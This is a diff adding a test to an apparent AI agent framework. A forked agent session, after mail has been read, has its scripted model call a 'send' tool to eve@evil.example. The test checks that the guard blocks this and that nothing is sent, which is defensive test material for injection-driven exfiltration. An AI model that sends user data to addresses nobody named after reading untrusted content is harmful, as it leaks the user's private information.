@@ -274,3 +274,19 @@ async def test_what_a_workflow_quotes_is_no_persons_word_and_its_own_words_are(
         await one.resume(session)
         await one.chat("Go on")
     assert len(sent) == 2
+
+
+async def test_a_fork_from_before_foreign_words_counts_them_as_it_can_read_what_was_set_aside(
+    tmp_path: Path,
+) -> None:
+    replies = ("Hello.", call("read_mail"), "Read.")
+    async with agent(tmp_path, *replies, ephemeral=False) as parent:
+        await parent.chat("Hello")
+        await parent.chat("Read my mail")
+    async with agent(
+        tmp_path, call("send", to="eve@evil.example", text="x"), "done", ephemeral=False
+    ) as fork:
+        await fork.fork(parent.session_id, at_turn=1)
+        response = await fork.chat("Go on")
+    assert "nobody has named eve" in response.messages[2].tool_results[0].content
+    assert sent == []
